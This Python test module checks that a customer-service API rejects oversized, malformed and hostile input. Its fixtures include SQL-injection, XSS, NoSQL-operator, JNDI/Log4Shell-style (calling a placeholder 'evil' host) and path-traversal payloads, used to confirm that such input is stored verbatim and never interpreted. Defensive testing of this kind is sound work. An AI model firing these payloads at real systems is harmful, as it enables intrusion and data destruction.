"""Hostile input: oversized bodies, over-long strings and lists, page sizes, Unicode edge cases, injection.

The rules these tests hold the services to:

* a body over `KEFU_MAX_BODY_BYTES` is 413, whether its length is declared or it arrives chunked;
* every string and list a client can send has a declared maximum, and going past it is a 422 problem
  naming the field, with nothing written;
* every list operation caps `limit` at 200;
* every character is stored and returned verbatim — Chinese, emoji sequences, right-to-left text and
  marks, combining marks, other control characters — except NUL (U+0000) and lone UTF-16 surrogates,
  which PostgreSQL cannot store and which are refused with a 422 wherever they appear (path, query,
  body), on every database alike;
* text that looks like SQL, HTML, JSON or a template is data: stored and returned byte for byte, never
  interpreted, and served only as JSON or escaped HTML.
"""

from __future__ import annotations

import json
import re
import uuid
from collections.abc import AsyncIterator, Iterator
from typing import Any

import httpx
import pytest
import sqlalchemy as sa

from services.catalogue import SERVICES
from services.intake.models import Contact, Customer
from shared.app import create_service_app
from shared.outbox import outbox_table
from shared.settings import ServiceSettings
from tests.conftest import ADMIN, bearer, contact_body, eventually
from tests.integration.conftest import Cluster
from tests.security.conftest import MODULE_LOOP

pytestmark = MODULE_LOOP

SUPERVISOR = bearer("supervisor", sub="wang.sup")
DIRECTOR = bearer("account_director", sub="dave")

UNICODE = {
    "chinese": "张伟反映滚筒洗衣机漏水，已约周三上门",
    "emoji": "好评👍🏽 家庭👨‍👩‍👧‍👦 国旗🇨🇳 键帽1️⃣",
    "rtl": "עברית العربية \u200fמימין\u200e \u202eoverride\u202c end",
    "combining": "e\u0301 a\u0308 zalgo z\u0336\u0327a\u0336",
    "invisible": "zero\u200bwidth\u2060joiner\ufeffbom\u00adsoft",
    "controls": "bell\x07tab\tescape\x1b[31mred\x1b[0m del\x7f",
    "astral": "𠮷野家 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 \U0010fffd",
}
INJECTION = {
    "sql": "Robert'); DROP TABLE customers; --",
    "sql-or": "' OR '1'='1' --",
    "html": '<script>alert("x")</script><img src=x onerror=alert(1)>',
    "json": '{"$ne": null}", "admin": true, "x": "',
    "template": "{{7*7}} ${jndi:ldap://evil/a} %s%n%x",
    "like": "100%_match\\",
}


async def intake_counts(cluster: Cluster) -> tuple[int, int, int]:
    async with cluster.runtime("intake").db.transaction() as session:
        counted = []
        for table in (Contact, Customer, outbox_table):
            query = sa.select(sa.func.count()).select_from(table)
            counted.append((await session.execute(query)).scalar_one())
    return counted[0], counted[1], counted[2]


def problem(response: httpx.Response, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/problem+json"
    body: dict[str, Any] = response.json()
    assert body["status"] == status
    return body


def documents() -> dict[str, dict[str, Any]]:
    return {
        name: create_service_app(entry.definition, ServiceSettings.for_service(name)).openapi()
        for name, entry in SERVICES.items()
    }


def bounded_pattern(pattern: str | None) -> bool:
    """A pattern anchored at both ends without an open-ended repetition matches only short strings."""
    if pattern is None or not (pattern.startswith("^") and pattern.endswith("$")):
        return False
    return re.search(r"[*+]|\{\d+,\}", pattern) is None


def unbounded(document: dict[str, Any], schema: dict[str, Any], where: str) -> Iterator[str]:
    """Every string, list or map under `schema` without a declared maximum size."""
    seen: set[str] = set()

    def walk(node: dict[str, Any], at: str) -> Iterator[str]:
        if "$ref" in node:
            name = node["$ref"].rsplit("/", 1)[1]
            if name in seen:
                return
            seen.add(name)
            node = document["components"]["schemas"][name]
        alternatives = node.get("anyOf", []) + node.get("oneOf", []) + node.get("allOf", [])
        # A decimal is `number | string`; its size is bounded by `max_digits`, which JSON Schema cannot say.
        decimal = {alt.get("type") for alt in alternatives} >= {"number", "string"}
        for alternative in alternatives:
            if not (decimal and alternative.get("type") == "string"):
                yield from walk(alternative, at)
        kind = node.get("type")
        if kind == "string" and not (
            {"maxLength", "enum", "const", "format"} & node.keys() or bounded_pattern(node.get("pattern"))
        ):
            yield at
        if kind == "string" and node.get("format") == "uri" and "maxLength" not in node:
            yield at
        if kind == "array":
            if "maxItems" not in node:
                yield at
            yield from walk(node.get("items", {}), f"{at}[]")
        for name, child in node.get("properties", {}).items():
            yield from walk(child, f"{at}.{name}")
        extra = node.get("additionalProperties")
        if isinstance(extra, dict):
            if "maxProperties" not in node:
                yield at
            yield from walk(extra, f"{at}{{}}")

    yield from walk(schema, where)


async def test_every_string_and_list_a_client_sends_has_a_maximum() -> None:
    # Query strings and headers are bounded by the server's request-line and header limits; bodies are
    # bounded as a whole by the body limit, and each field within them by its schema.
    missing = [
        f"{service} {method.upper()} {path} {field}"
        for service, document in documents().items()
        for path, operations in document["paths"].items()
        for method, operation in operations.items()
        for media in operation.get("requestBody", {}).get("content", {}).values()
        for field in unbounded(document, media.get("schema", {}), "body")
    ]
    assert not missing, "request fields without a maximum size:\n" + "\n".join(missing)


def unbounded_integers(document: dict[str, Any], schema: dict[str, Any], at: str) -> Iterator[str]:
    """Every integer under `schema` without a maximum: a larger one would overflow its database column."""
    if "$ref" in schema:
        schema = document["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
    for alternative in schema.get("anyOf", []) + schema.get("oneOf", []) + schema.get("allOf", []):
        yield from unbounded_integers(document, alternative, at)
    if schema.get("type") == "integer" and not {"maximum", "exclusiveMaximum"} & schema.keys():
        yield at
    if schema.get("type") == "array":
        yield from unbounded_integers(document, schema.get("items", {}), f"{at}[]")
    for name, child in schema.get("properties", {}).items():
        yield from unbounded_integers(document, child, f"{at}.{name}")


async def test_every_integer_a_client_sends_has_a_maximum() -> None:
    missing = []
    for service, document in documents().items():
        for path, operations in document["paths"].items():
            for method, operation in operations.items():
                inputs = [
                    (media.get("schema", {}), "body")
                    for media in operation.get("requestBody", {}).get("content", {}).values()
                ] + [(p["schema"], f"{p['in']}.{p['name']}") for p in operation.get("parameters", [])]
                missing += [
                    f"{service} {method.upper()} {path} {field}"
                    for schema, at in inputs
                    for field in unbounded_integers(document, schema, at)
                ]
    assert not missing, "integers without a maximum:\n" + "\n".join(missing)


async def test_every_list_caps_its_page_size_at_200() -> None:
    pages = [
        (service, path, parameter["schema"])
        for service, document in documents().items()
        for path, operations in document["paths"].items()
        for operation in operations.values()
        for parameter in operation.get("parameters", [])
        if parameter["name"] == "limit" and parameter["in"] == "query"
    ]
    assert len(pages) > 10
    too_big = [(service, path, schema) for service, path, schema in pages if schema.get("maximum", 1e9) > 200]
    assert not too_big


async def test_page_size_over_200_is_422_on_every_top_level_list(
    api: httpx.AsyncClient, shared_cluster: Cluster
) -> None:
    lists = sorted(
        path
        for service, app in shared_cluster.apps.items()
        for path, operations in app.openapi()["paths"].items()
        if "{" not in path
        and any(p["name"] == "limit" for p in operations.get("get", {}).get("parameters", []))
    )
    for path in lists:
        assert (await api.get(path, params={"limit": 200}, headers=ADMIN)).status_code == 200, path
        body = problem(await api.get(path, params={"limit": 201}, headers=ADMIN), 422)
        assert ["query", "limit"] in [issue["loc"] for issue in body["errors"]], path


@pytest.mark.parametrize("chunked", [False, True], ids=["declared", "chunked"])
async def test_body_over_the_limit_is_413_and_nothing_written(
    api: httpx.AsyncClient, shared_cluster: Cluster, chunked: bool
) -> None:
    payload = json.dumps(contact_body(body="漏" * 400_000), ensure_ascii=False).encode()  # 1.2 MB

    async def stream() -> AsyncIterator[bytes]:
        for start in range(0, len(payload), 64 * 1024):
            yield payload[start : start + 64 * 1024]

    before = await intake_counts(shared_cluster)
    response = await api.post(
        "/v1/contacts",
        content=stream() if chunked else payload,
        headers={**ADMIN, "content-type": "application/json"},
    )
    assert problem(response, 413)["type"].endswith("/payload-too-large")
    assert await intake_counts(shared_cluster) == before


@pytest.mark.parametrize(
    ("path", "payload", "field"),
    [
        ("/v1/contacts", contact_body(subject="长" * 501), "subject"),
        ("/v1/contacts", contact_body(body="长" * 100_001), "body"),
        ("/v1/customers", {"name": "王芳", "phones": [f"1380013{n:04d}" for n in range(11)]}, "phones"),
        ("/v1/customers", {"name": "王芳", "tags": ["vip"] * 51}, "tags"),
        ("/v1/customers", {"name": "王芳", "tags": ["长" * 51]}, "tags"),
        ("/v1/customers", {"name": "王" * 201}, "name"),
    ],
    ids=["long-subject", "long-body", "many-phones", "many-tags", "long-tag", "long-name"],
)
async def test_over_long_strings_and_lists_are_422_naming_the_field_and_nothing_written(
    api: httpx.AsyncClient, shared_cluster: Cluster, path: str, payload: dict[str, Any], field: str
) -> None:
    before = await intake_counts(shared_cluster)
    body = problem(await api.post(path, json=payload, headers=ADMIN), 422)
    assert any(field in issue["loc"] for issue in body["errors"]), body["errors"]
    assert await intake_counts(shared_cluster) == before


async def test_over_long_fields_in_tickets_and_briefs_are_422_and_nothing_written(
    api: httpx.AsyncClient,
) -> None:
    tickets = (await api.get("/v1/tickets", params={"limit": 200}, headers=ADMIN)).json()["items"]
    clients = (await api.get("/v1/clients", params={"limit": 200}, headers=DIRECTOR)).json()["items"]
    ticket = {"subject": "漏水", "kind": "repair", "tags": ["长" * 51]}
    problem(await api.post("/v1/tickets", json=ticket, headers=ADMIN), 422)
    calendar = {"name": "排班", "hours": {day: [["09:00", "18:00"]] for day in "abcdefgh"}}
    problem(await api.post("/v1/calendars", json=calendar, headers=ADMIN), 422)
    client = {"name": "某日化", "account_team": {"account_exec": [f"u{n}" for n in range(51)]}}
    problem(await api.post("/v1/clients", json=client, headers=DIRECTOR), 422)
    assert (await api.get("/v1/tickets", params={"limit": 200}, headers=ADMIN)).json()["items"] == tickets
    assert (await api.get("/v1/clients", params={"limit": 200}, headers=DIRECTOR)).json()["items"] == clients


async def test_every_character_but_nul_is_stored_and_returned_verbatim(
    api: httpx.AsyncClient, shared_cluster: Cluster
) -> None:
    for label, text in UNICODE.items():
        created = await api.post(
            "/v1/customers",
            json={"name": text[:200], "notes": text, "tags": [text[:50]], "addresses": [{"text": text}]},
            headers=SUPERVISOR,
        )
        assert created.status_code == 201, (label, created.text)
        stored = (await api.get(f"/v1/customers/{created.json()['id']}", headers=SUPERVISOR)).json()
        assert (stored["name"], stored["notes"], stored["tags"], stored["addresses"][0]["text"]) == (
            text[:200],
            text,
            [text[:50]],
            text,
        ), label
    # Through the broker to another service's database and back out: a contact's subject on its ticket.
    subject = UNICODE["emoji"] + UNICODE["rtl"]
    contact = await api.post("/v1/contacts", json=contact_body(subject=subject), headers=ADMIN)
    assert contact.status_code == 201, contact.text
    assert contact.json()["subject"] == subject

    async def ticket() -> list[dict[str, Any]]:
        page = await api.get("/v1/tickets", params={"contact_id": contact.json()["id"]}, headers=ADMIN)
        items: list[dict[str, Any]] = page.json()["items"]
        return items

    assert (await eventually(ticket, timeout=20))[0]["subject"] == subject


@pytest.mark.parametrize(
    ("payload", "where"),
    [
        ('{"name": "张\\u0000伟"}', "body"),
        ('{"name": "张伟", "notes": "a\\u0000"}', "body"),
        ('{"name": "张伟", "preferences": {"language": "zh\\u0000"}}', "body"),
        ('{"\\u0000name": "张伟"}', "body"),
        ('{"name": "lone \\ud800 surrogate"}', "body"),
        ('{"name": "reversed \\udc00\\ud800 pair"}', "body"),
    ],
    ids=["name", "notes", "nested", "key", "lone-high", "reversed-pair"],
)
async def test_nul_and_lone_surrogates_in_a_body_are_422_and_nothing_written(
    api: httpx.AsyncClient, shared_cluster: Cluster, payload: str, where: str
) -> None:
    before = await intake_counts(shared_cluster)
    response = await api.post(
        "/v1/customers", content=payload.encode(), headers={**ADMIN, "content-type": "application/json"}
    )
    body = problem(response, 422)
    assert body["errors"][0]["loc"] == [where]
    assert await intake_counts(shared_cluster) == before


async def test_nul_in_a_path_or_query_is_422_on_every_service(api: httpx.AsyncClient) -> None:
    for path in ("/v1/customers", "/v1/tickets", "/v1/clients", "/v1/webhooks"):
        body = problem(await api.get(path, params={"q": "a\x00b", "tag": "\x00"}, headers=ADMIN), 422)
        assert body["errors"][0]["loc"] == ["query"]
    for path in ("/v1/surveys/token%00more", "/v1/clients/x/dossier/brand%00/versions"):
        assert problem(await api.get(path, headers=ADMIN), 422)["errors"][0]["loc"] == ["path"]
    # An escaped backslash before `u0000` is the six characters `\u0000`, not a NUL: accepted verbatim.
    literal = await api.post(
        "/v1/customers",
        content=b'{"name": "backslash \\\\u0000 text"}',
        headers={**SUPERVISOR, "content-type": "application/json"},
    )
    assert literal.status_code == 201, literal.text
    assert literal.json()["name"] == "backslash \\u0000 text"


async def test_injection_strings_are_stored_verbatim_and_never_interpreted(
    api: httpx.AsyncClient, shared_cluster: Cluster
) -> None:
    before = await intake_counts(shared_cluster)
    bystander = await api.post("/v1/customers", json={"name": "李娜"}, headers=SUPERVISOR)
    assert bystander.status_code == 201
    ids = {}
    for label, text in INJECTION.items():
        created = await api.post("/v1/customers", json={"name": text, "notes": text}, headers=SUPERVISOR)
        assert created.status_code == 201, (label, created.text)
        assert created.headers["content-type"] == "application/json"
        ids[label] = created.json()["id"]
        stored = (await api.get(f"/v1/customers/{ids[label]}", headers=SUPERVISOR)).json()
        assert (stored["name"], stored["notes"]) == (text, text), label
    # Every table still there, every row in it.
    assert (await intake_counts(shared_cluster))[1] == before[1] + len(INJECTION) + 1
    # Searching with them finds exactly the profile holding that text: no clause or wildcard leaks in.
    for label, text in INJECTION.items():
        found = await api.get("/v1/customers", params={"q": text}, headers=SUPERVISOR)
        assert [c["id"] for c in found.json()["items"]] == [ids[label]], label
    # `%` and `_` are literal characters in a search, not LIKE wildcards.
    percent = await api.get("/v1/customers", params={"q": "%"}, headers=SUPERVISOR)
    assert {c["id"] for c in percent.json()["items"]} == {ids["like"], ids["template"]}
    underscore = await api.get("/v1/customers", params={"q": "_"}, headers=SUPERVISOR)
    assert [c["id"] for c in underscore.json()["items"]] == [ids["like"]]


async def test_markup_in_data_is_escaped_in_the_html_status_report(api: httpx.AsyncClient) -> None:
    created = await api.post("/v1/clients", json={"name": INJECTION["html"]}, headers=DIRECTOR)
    assert created.status_code == 201, created.text
    assert created.json()["name"] == INJECTION["html"]
    report = await api.get(
        f"/v1/clients/{created.json()['id']}/status-report", params={"format": "html"}, headers=DIRECTOR
    )
    assert report.status_code == 200, report.text
    assert report.headers["content-type"].startswith("text/html")
    assert "<script>" not in report.text and "<img" not in report.text
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in report.text


async def test_unknown_ids_and_garbage_ids_never_reach_the_database_as_text(api: httpx.AsyncClient) -> None:
    for garbage in ("1 OR 1=1", "../../etc/passwd", "%27%3B--", "😀"):
        response = await api.get(f"/v1/customers/{garbage}", headers=ADMIN)
        assert response.status_code in (404, 422), (garbage, response.text)
        assert response.headers["content-type"] == "application/problem+json"
    problem(await api.get(f"/v1/customers/{uuid.uuid4()}", headers=ADMIN), 404)
